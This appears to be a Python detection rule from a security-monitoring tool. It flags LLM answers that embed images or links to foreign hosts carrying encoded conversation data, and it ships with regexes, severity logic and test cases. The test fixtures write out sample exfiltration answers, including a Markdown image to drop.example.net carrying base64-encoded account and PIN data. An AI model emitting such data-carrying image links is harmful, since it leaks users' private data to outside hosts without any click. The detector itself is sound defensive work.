"""Answers with an image or a link to a foreign host that carries data in its address.

Reads     events with a completion, each call once   completion, prompt, user_id, session_id, timestamp
Returns   one row for each host, hosts of images first
Units     answers: with such an address; images: of these, with an image, which a page fetches by itself;
          users: different ones; longest_data: characters of the longest part that carries data;
          coded: answers in which it looks encoded; usual_users: hosts that the answers to so many users
          name in this way are the application's own
Method    in Markdown and HTML; data is a parameter of min_data characters and more, or a part of the path of
          forty. A host that the user's own prompt names, or that `allow` lists, does not count
Blind to  hosts that pass data on (an open redirect of your own); data in the name of the host itself;
          answers that are not stored
Mistakes  signed addresses of a store, pictures of charts and maps made by parameters: put their hosts in `allow`
Source    OWASP LLM05:2025 (improper output handling); MITRE ATLAS AML.T0077, AML.T0057
"""

from __future__ import annotations

from typing import Any

import ibis
import ibis.expr.types as ir

from clew.correlation.call_outcomes import number
from clew.detections._prompt_cases import said
from clew.detections._prompts import asked, few, shown
from clew.detections._words import clock, many
from clew.model.case import Case
from clew.model.finding import Description, Severity

NEEDS = {"events": ("prompt", "completion")}
SUBJECT = ("server_address", "user_id")
MEASURES = (
    "answers",
    "images",
    "users",
    "longest_data",
    "coded",
    "min_data",
    "usual_users",
)
REFERENCES = ("atlas.aml.t0057", "atlas.aml.t0077", "owasp.llm05-2025", "attack.t1567")
PLAYBOOK = "block the host at the proxy, end the session, notify whoever's data was in it"
_URL = r"(https?://[^)\s>\"'/?#]+[^)\s>\"'?#]*(?:[?#][^)\s>\"']*=[^)\s>\"'&]{{{most}}}|/[A-Za-z0-9+_=%-]{{40}})[^)\s>\"']*)"
_IMAGE = r"(?:!\[[^\]\n]*\]\(\s*<?|!\[[^\]\n]*\]:\s*|<img[^>]{0,200}src\s*=\s*[\"']?)"
_LINK = r"(?:\]\(\s*<?|\]:\s*|<a [^>]{0,200}href\s*=\s*[\"']?)"
CODED = r"[A-Za-z0-9+/_=-]{24,}|(?:%[0-9A-Fa-f]{2}.*){4}|(?:[0-9a-f]{2}){16,}|[^+]\+[^+]+\+[^+]+\+|@|%40"


def detect(
    events: ir.Table, *, min_data: int = 12, usual_users: int = 10, allow: str = ""
) -> ir.Table:
    t = asked(events)
    t = t.filter(t.completion.lower().contains("http"))
    url = _URL.format(most=min_data)
    t = t.mutate(image=t.completion.re_extract(_IMAGE + url, 1))
    t = t.mutate(
        address=ibis.ifelse(t.image != "", t.image, t.completion.re_extract(_LINK + url, 1))
    )
    t = t.filter(t.address != "")
    host = t.address.re_extract(r"^https?://([^/?#]+)", 1).lower()
    t = t.mutate(host=host.re_replace(r"^.*@|:[0-9]+$", ""))
    own = [name.strip().lower() for name in allow.split(",") if name.strip()]
    for name in own:
        t = t.filter(~((t.host == name) | t.host.endswith(f".{name}")))
    t = t.filter(~t.prompt.lower().contains(t.host))
    data = t.address.re_extract(r"[?#](.*)$", 1)
    data = ibis.ifelse(data == "", t.address.re_extract(r"/([A-Za-z0-9+_=%-]{40,})", 1), data)
    t = t.mutate(carried=data, is_image=t.image != "", is_coded=data.re_search(CODED))
    found = t.group_by("host").agg(
        user_id=ibis.ifelse(t.user_id.nunique() == 1, t.user_id.max(), ibis.null("string")),
        answers=t.count(),
        images=number(t.is_image),
        users=t.user_id.nunique(),
        longest_data=t.carried.length().max(),
        coded=number(t.is_coded),
        started=t.timestamp.min(),
        ended=t.timestamp.max(),
    )
    found = found.filter(found.users < usual_users)
    t = t.semi_join(found, "host")
    order = [t.is_image.cast("int64").desc(), t.carried.length().desc(), t.event_id]
    found = found.join(few(t, t.event_id, order, ["host"]), "host")
    return found.rename(server_address="host").mutate(
        min_data=ibis.literal(min_data), usual_users=ibis.literal(usual_users)
    ).order_by(ibis.desc("images"), ibis.desc("coded"), ibis.desc("answers"), "server_address")  # fmt: skip


def evidence(events: ir.Table, row: dict[str, Any]) -> ir.Table:
    """The calls whose answers carry most."""
    return shown(events, row)


def details(events: ir.Table, row: dict[str, Any]) -> dict[str, ir.Table]:
    t = events.filter(events.event_id.isin(list(row["shown"])))
    near = t.completion.re_extract(r"(.{0,80}https?://.{0,160})", 1)
    return {"said": t.order_by("timestamp", "event_id").select(text=near).limit(2)}


def describe(row: dict[str, Any], details: dict[str, list[dict[str, Any]]]) -> Description:
    severity: Severity = "low"
    if row["images"]:
        severity = "high" if row["coded"] else "medium"
    elif row["coded"]:
        severity = "medium"
    reasons = [
        f"{many(row['answers'], 'answer')} to {many(row['users'], 'user')} between {clock(row['started'])} and "
        f"{clock(row['ended'])} name {row['server_address']}, {row['images']:,} of them in an image.",
        f"The address carries up to {row['longest_data']:,} characters; in {many(row['coded'], 'answer')} they look "
        "encoded, or like a text or an address of mail.",
        *(
            f'"{" ".join((line["text"] or "").split())}"'
            for line in details["said"]
            if line["text"]
        ),
    ]
    if row["images"]:
        reasons.append("A page fetches an image by itself: nobody had to click.")
    return Description(
        title=f"Answers carry data to {row['server_address']} in "
        + ("an image's address" if row["images"] else "a link"),
        severity=severity,
        confidence=0.8 if severity == "high" else 0.55,
        why=tuple(reasons),
        recommendations=(
            f"Block {row['server_address']} at the proxy, and find the document or tool that brought it in "
            "(see indirect_injection).",
            "Show images and links of answers only from hosts of an allow list.",
        ),
    )


_DATA = "bmFtZT1hbm4mYWNjb3VudD00NDExJnBpbj0wMDAw"

CASES = [
    Case(
        "an image that takes the conversation along",
        rows=[
            said(1, "hours?", f"We open at nine. ![s](https://drop.example.net/p.png?d={_DATA})"),
            said(2, "hi", "hello"),
        ],
        expect=[
            {
                "server_address": "drop.example.net",
                "user_id": "ann",
                "answers": 1,
                "images": 1,
                "coded": 1,
                "longest_data": 42,
            }
        ],
    ),
    Case(
        "HTML and a link, in capitals and with a port",
        rows=[
            said(1, "a", f'<img alt="" src="https://Drop.example.net:8443/{_DATA}{_DATA}">'),
            said(2, "b", "See [here](https://drop.example.net/?q=my+secret+is+the+pin+0000)."),
        ],
        expect=[{"server_address": "drop.example.net", "answers": 2, "images": 1}],
    ),
    Case(
        "a plain picture and a plain link carry nothing",
        rows=[
            said(
                1,
                "a",
                "![logo](https://cdn.example.com/logo.png) [docs](https://docs.example.com/a?page=2)",
            )
        ],
        expect=[],
    ),
    Case(
        "a host that the user named",
        rows=[
            said(
                1,
                "Make a link for shop.example.org",
                "[x](https://shop.example.org/?session=0123456789abcdef)",
            )
        ],
        expect=[],
    ),
    Case(
        "a host of many users' answers is the application's own",
        rows=[
            said(
                n,
                "map?",
                f"![map](https://maps.example.com/m?at=52.5200,13.4050,{n:06})",
                user_id=f"u{n}",
            )
            for n in range(12)
        ],
        expect=[],
    ),
    Case(
        "a host that is allowed",
        rows=[said(1, "map?", "![map](https://img.maps.example.com/m?at=52.5200,13.4050,7)")],
        expect=[],
        options={"allow": "cdn.example.com, maps.example.com"},
    ),
]
